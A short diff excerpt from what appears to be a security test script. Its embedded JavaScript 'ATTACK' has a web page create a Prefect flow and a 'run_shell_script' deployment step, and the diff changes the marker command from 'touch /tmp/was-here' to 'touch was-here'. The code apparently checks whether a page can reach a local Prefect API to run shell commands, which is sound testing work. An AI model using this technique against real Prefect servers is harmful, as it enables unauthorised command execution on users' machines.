@@ -38,7 +38,7 @@ ATTACK = """async ([api, secret]) => {
     opened.onclose = opened.onerror = () => done('blocked');
   });
   const flow = await post('/flows/', {name: 'made-by-a-page'});
-  const command = {'prefect.deployments.steps.run_shell_script': {script: 'touch /tmp/was-here'}};
+  const command = {'prefect.deployments.steps.run_shell_script': {script: 'touch was-here'}};
   const flow_id = flow.status === 201 ? JSON.parse(flow.text).id : '00000000-0000-4000-8000-000000000000';
   return {
     flow: flow.status,
